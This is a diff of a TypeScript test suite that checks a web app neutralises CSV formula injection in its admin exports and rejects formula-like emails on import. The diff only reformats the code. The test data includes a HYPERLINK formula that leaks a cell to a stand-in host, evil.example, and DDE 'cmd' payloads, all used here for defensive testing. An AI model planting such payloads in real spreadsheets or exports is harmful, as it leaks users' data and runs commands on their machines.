@@ -13,15 +13,7 @@ import { get } from '../helpers/http.ts';
 import { afterPost, type App, startApp, submit } from './support.ts';
 import { rawSqlite } from '../../src/platform/db.server.ts';
 
-const PAYLOADS = [
-  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-  "+1+cmd|' /C calc'!A0",
-  '@SUM(A1:A9)',
-  '-2+3+cmd|\' /C notepad\'!A0',
-  '\tTAB=1+1',
-  '\rCR=1+1',
-  '＝1+1',
-];
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)', "-2+3+cmd|' /C notepad'!A0", '\tTAB=1+1', '\rCR=1+1', '＝1+1'];
 const DEPARTMENT = '=1+2';
 /** Starts a formula in Excel, LibreOffice, Google Sheets or Numbers. */
 const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
@@ -73,7 +65,11 @@ describe('CSV formula injection', () => {
 
     // The payloads are still there, readable as text with the leading apostrophe.
     const users = seen['/admin/exports/users.csv']!;
-    for (const name of PAYLOADS) expect(users.some((row) => row[1] === `'${name}`), name).toBe(true);
+    for (const name of PAYLOADS)
+      expect(
+        users.some((row) => row[1] === `'${name}`),
+        name,
+      ).toBe(true);
     expect(users.some((row) => row[2] === `'${DEPARTMENT}`)).toBe(true);
     expect(roster.some((row) => row[1] === `'${PAYLOADS[0]}`)).toBe(true);
     expect(seen['/admin/exports/kpis.csv']!.some((row) => row[1] === `'${DEPARTMENT}`)).toBe(true);
@@ -92,13 +88,22 @@ describe('CSV formula injection', () => {
 
     const form = new FormData();
     form.set('file', new File(['email,name,department,role\n=cmd@example.com,X,Sales,learner\n-x@example.com,Y,Sales,learner\n'], 'u.csv', { type: 'text/csv' }));
-    const imported = await afterPost(app.url, await fetch(`${app.url}/admin/users?_action=admin.importUsers`, { method: 'POST', redirect: 'manual', headers: { cookie: app.cookies.admin!, origin: app.url }, body: form }), app.cookies.admin);
+    const imported = await afterPost(
+      app.url,
+      await fetch(`${app.url}/admin/users?_action=admin.importUsers`, { method: 'POST', redirect: 'manual', headers: { cookie: app.cookies.admin!, origin: app.url }, body: form }),
+      app.cookies.admin,
+    );
     expect(imported.status).toBe(400);
     const html = await imported.text();
     expect(html).toContain('2行目：メールアドレス「=cmd@example.com」が正しくありません');
     expect(html).toContain('3行目：メールアドレス「-x@example.com」が正しくありません');
 
-    const created = await submit(app.url, '/admin/users?_action=admin.createUser', app.cookies.admin, { email: '@SUM(A1)@example.com', name: 'Z', department: 'Sales', role: 'learner' });
+    const created = await submit(app.url, '/admin/users?_action=admin.createUser', app.cookies.admin, {
+      email: '@SUM(A1)@example.com',
+      name: 'Z',
+      department: 'Sales',
+      role: 'learner',
+    });
     expect(created.status).toBe(400);
     const stored = rawSqlite(app.db).prepare("select count(*) n from users where email glob '[=+@-]*'").get() as { n: number };
     expect(stored.n).toBe(0);
